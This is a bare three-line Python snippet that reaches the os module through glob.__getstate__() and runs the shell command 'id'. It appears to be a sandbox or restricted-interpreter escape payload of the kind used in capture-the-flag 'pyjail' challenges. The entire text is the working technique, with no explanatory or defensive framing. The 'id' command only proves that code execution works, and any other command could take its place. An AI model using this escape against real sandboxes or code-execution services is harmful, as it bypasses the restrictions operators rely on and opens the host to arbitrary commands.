import glob

state = glob.__getstate__()
state["os"].system("id")
